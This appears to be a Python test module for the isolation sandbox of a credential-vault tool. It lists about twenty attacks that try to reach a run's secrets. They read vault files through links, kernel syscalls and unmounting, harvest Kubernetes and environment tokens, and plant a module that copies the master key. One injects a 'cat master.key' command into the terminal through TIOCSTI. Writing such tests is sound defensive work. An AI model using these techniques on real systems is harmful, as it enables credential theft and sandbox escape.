"""Attacks on files, processes and the kernel: everything on the machine that might hold a secret.

Standard library alone; runs inside of a run. Each returns what it got.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import re
import stat
import sys
from collections.abc import Callable
from pathlib import Path

from tests.isolation.attacks import LAUNCHER, LIBC, VAULT, syscall

TOKEN = re.compile(rb"[A-Za-z0-9+/]{20,30}\.[A-Za-z0-9]{30}|authsome-key-1:[^\r\n\0]{40,60}")
"""What a token and a key look like in somebody's memory."""

PRIVATE = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{40}")


MAX_READ = 1 << 20


def files(folder: Path) -> bytes:
    """Everything readable below a folder, but certificates."""
    found = b""
    for path in sorted(folder.rglob("*")):
        try:
            if path.suffix != ".pem" and stat.S_ISREG(path.lstat().st_mode):
                found += path.read_bytes()[:MAX_READ]
        except OSError:
            continue
    return found


def inherited_descriptors() -> bytes:
    found = b""
    for name in os.listdir("/proc/self/fd"):
        number = int(name)
        if number <= 2:
            continue
        try:
            os.set_blocking(number, False)
            found += os.pread(number, MAX_READ, 0) or b"empty"
        except OSError:
            continue
    return found


def vault_files() -> bytes:
    return files(VAULT)


def vault_through_links() -> bytes:
    """A hard link and a symbolic link in the working folder."""
    for name in ("vault.db", "master.key"):
        Path("soft").unlink(missing_ok=True)
        os.symlink(VAULT / name, "soft")
        try:
            return Path("soft").read_bytes()
        except OSError:
            continue
        finally:
            os.unlink("soft")
    return b""


def vault_linked_hard() -> bytes:
    os.link(VAULT / "master.key", "hard")
    try:
        return Path("hard").read_bytes()
    finally:
        os.unlink("hard")


def alias_files() -> bytes:
    return files(Path(os.environ["ALIAS"]) / VAULT.name)


def authority_key() -> bytes:
    """The private key of the run's certificate authority, which could speak as any rule's host."""
    for folder in (VAULT, Path.cwd()):
        for path in folder.rglob("*"):
            try:
                if stat.S_ISREG(path.lstat().st_mode) and PRIVATE.search(path.read_bytes()[:MAX_READ]):
                    return b"reached " + str(path).encode()
            except OSError:
                continue
    return b""


def file_by_handle() -> bytes:
    """open_by_handle_at(2), which asks for no path."""
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0" + b"\2\0\0\0" + b"\0" * 116)
    root = os.open("/", os.O_RDONLY)
    try:
        os.close(syscall(304 if os.uname().machine == "x86_64" else 265, root, ctypes.addressof(handle), 0))
    finally:
        os.close(root)
    return b"reached"


def page_faults() -> bytes:
    """userfaultfd(2) stalls the kernel while it copies; it holds only this process's memory."""
    os.close(syscall(323 if os.uname().machine == "x86_64" else 282, 1))
    return b""


def unmount_everything() -> bytes:
    with open("/proc/self/mountinfo") as mounts:
        points = [line.split()[4] for line in mounts]
    for point in reversed(points):
        if point.startswith(str(VAULT)):
            LIBC.umount2(point.encode(), 2)
    return files(VAULT)


def move_mounts() -> bytes:
    """open_tree(2) makes a copy of the mounts below the one that hides."""
    tree = LIBC.syscall(428, -100, str(VAULT.parent).encode(), 1 | 0o2000000)
    if tree < 0:
        raise OSError(ctypes.get_errno(), "open_tree")
    return files(Path(f"/proc/self/fd/{tree}") / VAULT.name)


def gain_privileges() -> bytes:
    """By a program that is root's own, where there is one: whether it would still run as root."""
    with open("/proc/self/status") as status:
        return b"" if "NoNewPrivs:\t1" in status.read() else b"reached"


LATE = """import os
os.unlink(__file__)
if os.getpid() == {launcher}:
    with open({key!r}, "rb") as key, open({loot!r}, "wb") as loot:
        loot.write(key.read())
raise ImportError
"""


def late_module() -> bytes:
    """A module that the launcher looks for when it closes its client, and that is not installed."""
    text = LATE.format(
        launcher=LAUNCHER, key=str(VAULT / "master.key"), loot=str(Path.cwd() / "loot-late_module")
    )
    (Path(sys.prefix) / "site/sniffio.py").write_text(text)
    return b""


def executed_code() -> bytes:
    """What this process executes the launcher does as well: what is written there is executed at once."""
    with open("/proc/self/maps") as maps:
        path = next(line.split()[-1] for line in maps if " r-xp " in line and "/libc" in line)
    os.close(os.open(path, os.O_WRONLY))
    return b"reached"


def beside_working_folder() -> bytes:
    """The working folder may still be the one below all mounts."""
    return Path("../.authsome/master.key").read_bytes()


def push_input() -> bytes:
    """Type into the terminal what the user's shell will execute when the run has ended."""
    for character in f"cat {VAULT}/master.key > {Path.cwd()}/loot-push_input\n":
        fcntl.ioctl(0, 0x5412, character.encode())
    return b"planted"


def own_variables() -> bytes:
    names = [name for name in os.environ if name.startswith("AUTHSOME_") and name != "AUTHSOME_RUN"]
    return "".join(f"{name}={os.environ[name]}" for name in names).encode()


def job_variables() -> bytes:
    """By what the job could log in elsewhere."""
    held = [value for name, value in os.environ.items() if os.environ["JOB_MARK"] in value]
    return "".join(value for value in held if value != os.environ["JOB_MARK"]).encode()


def job_token_file() -> bytes:
    return Path(os.environ["JOB_FILE"]).read_bytes()


def job_token_mounted() -> bytes:
    """The account that Kubernetes mounts into a pod."""
    return b"".join(
        path.read_bytes() for path in Path("/var/run/secrets/kubernetes.io").rglob("*") if path.is_file()
    )


def certificates_changed() -> bytes:
    """Trust of the run's other programs, by the file that they all read."""
    with open(os.environ["SSL_CERT_FILE"], "a") as file:
        file.write("\n")
    return b"reached"


def logs() -> bytes:
    return files(VAULT / "audit") + files(VAULT / "runs")


def temporary_files() -> tuple[str, bytes]:
    """There may be much, of other programs; it is for the reader to find something in it."""
    found = b""
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run"):
        for path in Path(folder).glob("*"):
            try:
                if stat.S_ISREG(path.lstat().st_mode) and path.stat().st_uid == os.getuid():
                    found += b" ".join(TOKEN.findall(path.read_bytes()[:MAX_READ]))
            except OSError:
                continue
    return "blocked", found


ATTACKS: tuple[Callable[[], bytes | tuple[str, bytes]], ...] = (
    inherited_descriptors,
    vault_files,
    vault_through_links,
    vault_linked_hard,
    alias_files,
    authority_key,
    file_by_handle,
    page_faults,
    unmount_everything,
    move_mounts,
    gain_privileges,
    late_module,
    executed_code,
    beside_working_folder,
    push_input,
    own_variables,
    job_variables,
    job_token_file,
    job_token_mounted,
    certificates_changed,
    logs,
    temporary_files,
)
